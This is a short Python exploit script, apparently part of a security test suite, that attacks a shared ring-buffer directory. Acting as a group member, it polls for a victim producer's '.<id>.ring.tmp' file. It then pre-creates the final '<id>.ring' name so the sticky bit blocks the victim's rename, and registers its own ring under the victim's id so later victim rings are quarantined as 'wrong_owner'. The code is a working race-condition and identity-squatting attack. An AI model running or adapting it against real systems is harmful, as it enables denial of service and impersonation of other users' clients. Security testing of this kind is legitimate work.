"""Run as a member of the trading group (not the victim): watch the ring directory for a producer's
'.<id>.ring.tmp' (visible: the directory is 03770, group-readable), then at once
 1. create '<id>.ring' (an empty file: the sticky bit makes the victim's rename(tmp, '<id>.ring') fail), and
 2. make a valid ring '<id>.1.ring' of our own with the victim's id: adopted first, it binds the id to our uid
    (persisted in client_owners), so any later ring of the victim's is quarantined `wrong_owner`.
argv: RING_DIR SECONDS"""
import os, sys, time
sys.path.insert(0, "/work/wt/attack")
from client.ring import RingWriter

d, secs = sys.argv[1], float(sys.argv[2])
mine = set()
t0 = time.monotonic()
while time.monotonic() - t0 < secs:
    for e in os.scandir(d):
        n = e.name
        if n.startswith(".") and n.endswith(".ring.tmp") and n not in mine:
            cid = n[1:-len(".ring.tmp")]
            if "." in cid:
                continue
            mine.add(n)
            try:
                fd = os.open(os.path.join(d, cid + ".ring"), os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o640); os.close(fd)
                blocked = True
            except OSError as exc:
                blocked = f"{exc}"
            try:
                w = RingWriter.create(d, cid, suffix=".1", capacity=1 << 16)
                mine.add(f".{cid}.1.ring.tmp")
                made = True
            except Exception as exc:  # noqa: BLE001
                made = f"{type(exc).__name__}: {exc}"
            print(f"saw {n}: blocked the name: {blocked}; own ring with its id: {made}", flush=True)
    time.sleep(0.0002)
